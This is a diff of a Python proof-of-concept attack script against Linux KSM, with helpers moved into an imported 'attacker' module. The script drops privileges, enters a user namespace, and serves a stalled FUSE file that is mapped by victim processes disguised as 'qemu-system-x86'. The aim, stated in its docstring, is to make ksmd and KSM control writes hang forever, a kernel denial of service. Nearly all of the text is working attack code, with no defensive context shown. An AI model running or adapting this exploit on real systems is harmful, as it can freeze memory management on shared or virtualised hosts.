@@ -13,47 +13,27 @@ standard input.
 The victims have no mergeable memory: ksmd, and each write to KSM's `run`, would wait for such a lock for ever.
 """
 
-import ctypes
 import os
-import signal
 import struct
 import sys
 import threading
 import time
 
-libc = ctypes.CDLL(None, use_errno=True)
-libc.mmap.restype = ctypes.c_void_p
-libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+from attacker import HYPERVISOR, PAGE, PR_SET_NAME, become, call, die_with_parent, end_with_input, libc, memory, prctl
 
-PAGE = 4096
 CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
 FUSE_LOOKUP, FUSE_FORGET, FUSE_GETATTR, FUSE_OPEN, FUSE_READ = 1, 2, 3, 14, 15
 FUSE_FLUSH, FUSE_INIT, FUSE_INTERRUPT, FUSE_BATCH_FORGET = 25, 26, 36, 42
 ENOSYS = 38
 
 
-def call(name, *arguments):
-    if getattr(libc, name)(*arguments) < 0:
-        number = ctypes.get_errno()
-        raise OSError(number, f"{name}: {os.strerror(number)}")
-
-
-def become(user):
-    if os.getuid() == 0:
-        os.setgroups([])
-        os.setgid(user)
-        os.setuid(user)
-        # Such a process may not write its own uid_map otherwise.
-        call("prctl", 4, 1, 0, 0, 0)
+def enter_namespace():
+    """Makes a namespace in which the user may mount."""
     uid, gid = os.getuid(), os.getgid()
     call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
     for name, text in [("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")]:
         with open(f"/proc/self/{name}", "w") as file:
             file.write(text)
-
-
-def die_with_parent():
-    call("prctl", 1, signal.SIGKILL, 0, 0, 0)
 
 
 def serve(fuse):
@@ -81,11 +61,11 @@ def serve(fuse):
 
 
 def victim(file, told, go):
-    call("prctl", 15, b"qemu-system-x86", 0, 0, 0)
+    prctl(PR_SET_NAME, HYPERVISOR)
     address = libc.mmap(None, PAGE, 1, 1, file, 0)
     os.write(told, struct.pack("<Q", address))
     os.read(go, 1)
-    libc.mmap(None, PAGE, 3, 0x22, -1, 0)
+    memory(PAGE)
     os._exit(1)
 
 
@@ -135,6 +115,7 @@ def hold(fuse, file):
 def main():
     user, place, device, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
     become(user)
+    enter_namespace()
     path = os.path.join(place, f"slow-{os.getpid()}")
     open(path, "w").close()
     fuse = os.open(device, os.O_RDWR)
@@ -147,9 +128,8 @@ def main():
     os.close(os.dup(file))
     for _ in range(count):
         print(hold(fuse, file), flush=True)
-    sys.stdin.read()
     # The file system ends with its server, and so does each wait.
-    os._exit(0)
+    end_with_input()
 
 
 main()
